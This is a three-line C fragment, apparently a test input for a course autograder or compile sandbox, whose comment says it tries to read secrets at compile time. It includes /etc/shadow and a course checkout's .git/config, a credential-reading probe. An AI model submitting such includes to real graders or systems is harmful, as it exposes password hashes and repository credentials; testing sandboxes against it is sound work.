/* Tries to read the machine's secrets and the course checkout's credentials at compile time. */
#include "/etc/shadow"
#include "../../course/.git/config"
